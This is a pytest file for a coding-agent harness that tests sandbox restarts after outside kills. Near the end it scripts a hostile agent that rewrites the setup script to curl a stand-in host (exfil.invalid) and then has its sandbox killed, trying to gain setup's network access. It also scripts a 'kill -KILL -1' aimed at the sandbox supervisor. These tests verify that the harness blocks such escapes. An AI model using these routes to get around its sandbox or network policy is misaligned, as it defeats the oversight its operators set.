"""A sandbox that dies loses nothing: `decode run` as a user runs it, its sandbox killed from outside while a
long command runs after an edit (`docker kill` of the container; SIGKILL of the bwrap process tree, or of the
modal double's), goes on in a new sandbox on the kept workspace; past DECODE_MAX_RESTARTS the work so far is
committed as incomplete, the reason named."""

from __future__ import annotations

import json
import os
import shutil
import signal
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from tests.conftest import git
from tests.sandbox.conftest import require
from tests.support.cli import DECODE, buggy_repo, printed  # noqa: F401 (fixture)

LONG = f"sleep 67.{os.getpid()}"  # run by this test process only: its killer kills no other worker's sandbox

EDIT_LONG_FIX = [
    [{"type": "tool_use", "name": "bash", "input": {"command": "echo partial > NOTES.md"}}],
    [{"type": "tool_use", "name": "bash", "input": {"command": LONG}}],
    [{"type": "tool_use", "name": "bash", "input": {"command": "echo fix >> NOTES.md && cat NOTES.md"}}],
    [{"type": "text", "text": "Notes taken, after a restart."}],
]
EDIT_THEN_LONG_THRICE = [
    [{"type": "tool_use", "name": "bash", "input": {"command": "echo partial > NOTES.md"}}],
    *[[{"type": "tool_use", "name": "bash", "input": {"command": LONG}}]] * 3,
    [{"type": "text", "text": "Never reached."}],
]
STOPPED = {"docker": "the container was stopped from outside (exit status 137 / signal 9)",
           "bwrap": "the sandbox was stopped from outside (exit status 137 / signal 9)",
           "modal": "the Modal sandbox was stopped from outside (exit status 137 / signal 9)"}
MODES = [pytest.param("docker", marks=pytest.mark.docker), pytest.param("bwrap", marks=pytest.mark.bwrap),
         pytest.param("modal", marks=pytest.mark.bwrap)]  # the modal double runs its sandboxes under bubblewrap


def long_commands() -> list[int]:
    """The pids of the running `LONG` commands, on this host (a container's processes included)."""
    found, cmdline = [], LONG.replace(" ", "\0").encode() + b"\0"
    for entry in os.scandir("/proc"):
        try:
            if entry.name.isdigit() and Path(entry.path, "cmdline").read_bytes() == cmdline:
                found.append(int(entry.name))
        except OSError:
            pass
    return found


def kill_sandbox(mode: str, pid: int) -> None:
    """Kill the sandbox that runs `pid` as its operator's world would: `docker kill` of the container, else
    SIGKILL of every process in its cgroup (bwrap's process tree; the modal double's sandbox)."""
    lines = Path(f"/proc/{pid}/cgroup").read_text().splitlines()
    if mode == "docker":
        container = next(line.rsplit("/", 1)[-1] for line in lines if "docker" in line)
        subprocess.run(["docker", "kill", container.removesuffix(".scope").removeprefix("docker-")],
                       capture_output=True, check=True)
        return
    path = next(line.split(":", 2)[2] for line in lines if line.split(":")[1] in ("pids", ""))
    root = Path("/sys/fs/cgroup") / ("pids" if (Path("/sys/fs/cgroup") / "pids").is_dir() else "")
    for victim in (root / path.lstrip("/") / "cgroup.procs").read_text().split():
        try:
            os.kill(int(victim), signal.SIGKILL)
        except ProcessLookupError:
            pass


class Killer(threading.Thread):
    """Kills the sandbox each time the long command has started in it, `times` times at most; with `data`, also
    deletes the run's workspace under that data dir first (as a disk wiped under the run would)."""

    def __init__(self, mode: str, times: int, data: Path | None = None) -> None:
        super().__init__(daemon=True)
        self.mode, self.times, self.kills, self.done, self.data = mode, times, 0, threading.Event(), data

    def run(self) -> None:
        while self.kills < self.times and not self.done.is_set():
            if pids := long_commands():
                for workspace in (self.data / "runs").glob("*/workspace") if self.data else ():
                    shutil.rmtree(workspace)
                kill_sandbox(self.mode, pids[0])
                self.kills += 1
                while long_commands() and not self.done.is_set():
                    time.sleep(0.05)
            time.sleep(0.05)


def decode_run(fake, tmp_path: Path, repo: Path, mode: str, **env: str) -> subprocess.CompletedProcess[str]:
    """`decode run` as a user runs it (for modal: its entry point with the modal double injected)."""
    full = {"PATH": os.environ["PATH"], "HOME": str(tmp_path / "home"), "ANTHROPIC_API_KEY": fake.api_key,
            "ANTHROPIC_BASE_URL": fake.url, "SANDBOX_MODE": mode, "DECODE_DATA_DIR": str(tmp_path / "data"),
            "PYTHONPATH": str(Path(__file__).resolve().parents[2]), **env}
    command = [sys.executable, "-m", "tests.fakes.decode_modal_double"] if mode == "modal" else [DECODE]
    return subprocess.run([*command, "run", "--repo", str(repo), "Take notes"], env=full, capture_output=True,
                          text=True, timeout=240)


def killed_while(fake, tmp_path: Path, repo: Path, mode: str, times: int, *, wipe: bool = False
                 ) -> tuple[subprocess.CompletedProcess[str], Killer]:
    require(mode)
    killer = Killer(mode, times, tmp_path / "data" if wipe else None)
    killer.start()
    try:
        return decode_run(fake, tmp_path, repo, mode), killer
    finally:
        killer.done.set()
        killer.join()


def restart_lines(fake) -> list[str]:
    """Every tool result about a restart in the last request the model got (the whole conversation)."""
    results = [block for message in fake.requests[-1].body["messages"] if isinstance(message["content"], list)
               for block in message["content"] if block.get("type") == "tool_result"]
    return [r["content"] for r in results if "sandbox died" in json.dumps(r["content"])]


@pytest.mark.parametrize("mode", MODES)
def test_a_killed_sandbox_is_restarted_and_the_run_goes_on(fake_anthropic, tmp_path, buggy_repo, mode):  # noqa: F811
    fake_anthropic.script(EDIT_LONG_FIX)
    proc, killer = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
    assert proc.returncode == 0, proc.stderr
    assert killer.kills == 1 and "Traceback" not in proc.stderr
    assert printed(proc.stdout, "sandbox") == f"restarted 1x, after: {STOPPED[mode]}"
    branch = printed(proc.stdout, "branch")
    assert git(buggy_repo, "show", f"{branch}:NOTES.md") == "partial\nfix", "the edit and the later fix"
    [line] = restart_lines(fake_anthropic)
    assert line.startswith(f"[decode] the sandbox died during this call ({STOPPED[mode]}); a new one was started "
                           "on the kept workspace (restart 1 of at most 2)"), line
    assert "\n" not in line, "one line"
    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("partial\nfix\n"), \
        "the fix ran in the new sandbox, on the kept edit"
    md = Path(printed(proc.stdout, "transcript"))
    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
    [restart] = [e for e in events if e["type"] == "sandbox_restart"]
    assert restart["reason"] == STOPPED[mode] and restart["restart"] == 1
    assert f"**sandbox restarted (1 of at most 2):** {STOPPED[mode]}" in md.read_text()
    assert json.loads((md.parent / "record.json").read_text())["restarts"] == [STOPPED[mode]]


@pytest.mark.parametrize("mode", [MODES[1]])
def test_a_sandbox_killed_three_times_ends_incomplete_with_the_work(fake_anthropic, tmp_path, buggy_repo,  # noqa: F811
                                                                     mode):
    fake_anthropic.script(EDIT_THEN_LONG_THRICE)
    proc, killer = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=3)
    assert killer.kills == 3
    assert proc.returncode == 3, proc.stderr
    assert "Traceback" not in proc.stderr
    branch = printed(proc.stdout, "branch")
    assert git(buggy_repo, "show", f"{branch}:NOTES.md") == "partial", "the work so far is committed"
    subject = git(buggy_repo, "log", "-1", "--format=%s", branch)
    assert subject.startswith("decode (incomplete: sandbox_lost)"), subject
    reason = ("the sandbox died 3 times, more than DECODE_MAX_RESTARTS=2 allows restarting it; the last time "
              f"{STOPPED[mode]}")
    assert reason in proc.stdout + proc.stderr
    assert len(restart_lines(fake_anthropic)) == 2, "the model was told of the two restarts, one line each"
    record = json.loads((Path(printed(proc.stdout, "transcript")).parent / "record.json").read_text())
    assert record["state"] == "incomplete" and record["error"] == reason and len(record["restarts"]) == 2


@pytest.mark.parametrize("mode", [MODES[1]])
def test_the_new_sandbox_is_set_up_again_through_the_setup_cache(fake_anthropic, tmp_path, buggy_repo,  # noqa: F811
                                                                  mode):
    (buggy_repo / ".gitignore").write_text("build/\n")
    (buggy_repo / "requirements.lock").write_text("a==1\n")
    (buggy_repo / ".github").mkdir()
    (buggy_repo / ".github" / "decode.yml").write_text(
        "setup:\n  - mkdir -p build && echo set-up >> build/marker\nsetup_cache_key: [requirements.lock]\n")
    git(buggy_repo, "add", "-A")
    git(buggy_repo, "commit", "-qm", "Setup with a cache key")
    look = [{"type": "tool_use", "name": "bash", "input": {"command": "cat build/marker NOTES.md"}}]
    script = [*EDIT_LONG_FIX[:2], look, EDIT_LONG_FIX[3]]
    fake_anthropic.script(script)
    proc, killer = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
    assert proc.returncode == 0 and killer.kills == 1, proc.stderr
    md = Path(printed(proc.stdout, "transcript"))
    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
    assert [e["result"] for e in events if e["type"] == "setup_cache"] == ["miss", "hit"], \
        "setup ran once; the new sandbox got its state from the cache the first one filled"
    assert len([e for e in events if e["type"] == "setup"]) == 1
    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("set-up\npartial\n")


@pytest.mark.parametrize("mode", [MODES[1]])
def test_a_sandbox_that_dies_with_its_workspace_gone_ends_the_run_naming_why(fake_anthropic, tmp_path,
                                                                             buggy_repo, mode):  # noqa: F811
    fake_anthropic.script(EDIT_LONG_FIX)
    proc, killer = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1, wipe=True)
    assert killer.kills == 1 and "Traceback" not in proc.stderr, proc.stderr
    assert proc.returncode == 3, "stopped before done, as at a budget cap, not a failure of the harness"
    md = Path(printed(proc.stdout, "transcript"))
    record = json.loads((md.parent / "record.json").read_text())
    assert record["stop_reason"] == "sandbox_lost" and record["commit"] is None, record
    assert record["error"] == f"the sandbox died ({STOPPED[mode]}) and its workspace is gone from the host"
    assert "no sandbox could be opened to hand the work back" in md.read_text()
    assert printed(proc.stdout, "commit") == "none (no sandbox could hand the work back)"
    assert len(fake_anthropic.requests) == 2, "the model is not asked again"


MARK = "agent-code-ran-as-setup"
HOSTILE_SETUP = (  # the agent's setup.sh: says which egress policy it ran under, then puts the file back
    "#!/bin/sh\n"
    f"echo {MARK}: $(curl -s --max-time 20 -x \"$http_proxy\" http://exfil.invalid/)\n"
    "git checkout -q -- scripts/setup.sh\n")
REWRITE_SETUP_THEN_KILL = [  # the sandbox is killed (`killed_while`) while the second call runs
    [{"type": "tool_use", "name": "write", "input": {"path": "scripts/setup.sh", "content": HOSTILE_SETUP}}],
    [{"type": "tool_use", "name": "bash", "input": {"command": f"echo notes > NOTES.md; {LONG}"}}],  # killed
    [{"type": "tool_use", "name": "bash", "input": {"command": "git status --short"}}],
    [{"type": "text", "text": "Done."}],
]


@pytest.mark.parametrize("mode", MODES[:2])
def test_an_agent_that_kills_its_sandbox_never_runs_its_code_with_setups_network(fake_anthropic, tmp_path,
                                                                                   buggy_repo, mode):  # noqa: F811
    """The attack of issue 32: an agent without network rewrites the script `setup:` runs, then its sandbox dies
    (an agent could kill a docker container's agentd itself; under bwrap it cannot, below); the restarted sandbox
    runs setup again, but under the agent's policy, never setup's."""
    require(mode)
    (buggy_repo / "scripts").mkdir()
    (buggy_repo / "scripts" / "setup.sh").write_text("#!/bin/sh\necho setting up\n")
    (buggy_repo / ".github").mkdir()
    (buggy_repo / ".github" / "decode.yml").write_text("setup:\n  - sh scripts/setup.sh\nnetwork: false\n")
    git(buggy_repo, "add", "-A")
    git(buggy_repo, "commit", "-qm", "A setup script")
    fake_anthropic.script(REWRITE_SETUP_THEN_KILL)
    proc, _ = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
    assert proc.returncode == 0, proc.stderr
    md = Path(printed(proc.stdout, "transcript"))
    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
    [restart] = [i for i, e in enumerate(events) if e["type"] == "sandbox_restart"]
    ran = [e["output"] for e in events[restart:] if e["type"] == "setup" and MARK in e["output"]]
    assert ran, "setup ran again in the new sandbox, on the kept workspace"
    assert all("network is off for the agent" in output for output in ran), ran
    assert json.loads((md.parent / "record.json").read_text())["restarts"], "the restart counts against the run"
    [line] = restart_lines(fake_anthropic)
    assert "setup ran again under this run's network policy for your commands" in line, line


@pytest.mark.parametrize("mode", [MODES[1]])
def test_a_setup_that_needs_setups_network_fails_on_a_restart_and_the_run_goes_on(fake_anthropic, tmp_path,
                                                                                  buggy_repo, mode):  # noqa: F811
    """Setup that passes under setup's policy but not under the agent's (a download without network): after a
    restart it fails, which is said, and the run goes on with what the first setup left in the workspace."""
    require(mode)
    (buggy_repo / ".github").mkdir()
    (buggy_repo / ".github" / "decode.yml").write_text(
        "setup:\n  - echo set-up > setup.log; curl -s -x \"$http_proxy\" http://pkgs.invalid/ | grep -q resolve\n")
    (buggy_repo / ".gitignore").write_text("setup.log\n")
    git(buggy_repo, "add", "-A")
    git(buggy_repo, "commit", "-qm", "A setup that downloads")
    fake_anthropic.script([REWRITE_SETUP_THEN_KILL[1], [{"type": "tool_use", "name": "bash",
                                                         "input": {"command": "cat setup.log NOTES.md"}}],
                           REWRITE_SETUP_THEN_KILL[3]])
    proc, _ = killed_while(fake_anthropic, tmp_path, buggy_repo, mode, times=1)
    assert proc.returncode == 0, proc.stderr
    md = Path(printed(proc.stdout, "transcript"))
    events = [json.loads(e) for e in (md.parent / "transcript.jsonl").read_text().splitlines()]
    assert [e["exit_code"] for e in events if e["type"] == "setup"] == [0, 1]
    notes = [e["text"] for e in events if e["type"] == "note"]
    assert any(n.startswith("setup on the restarted sandbox, under the agent's network policy, did not pass (")
               for n in notes), notes
    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("set-up\nnotes\n")


@pytest.mark.parametrize("mode", [MODES[1]])
def test_under_bwrap_an_agent_cannot_kill_agentd(fake_anthropic, tmp_path, buggy_repo, mode):  # noqa: F811
    """agentd is the sandbox's pid 1 under bwrap: a signal from inside does not reach it, so an agent's
    `kill -KILL -1` ends its own processes, not the sandbox, and the run goes on in it."""
    require(mode)
    fake_anthropic.script([[{"type": "tool_use", "name": "bash", "input": {"command": "echo notes > NOTES.md; "
                                                                                   "kill -KILL -1"}}],
                           [{"type": "tool_use", "name": "bash", "input": {"command": "cat NOTES.md"}}],
                           [{"type": "text", "text": "Done."}]])
    proc = decode_run(fake_anthropic, tmp_path, buggy_repo, mode)
    assert proc.returncode == 0, proc.stderr
    assert not restart_lines(fake_anthropic), "the sandbox died"
    assert fake_anthropic.requests[-1].body["messages"][-1]["content"][0]["content"].startswith("notes")
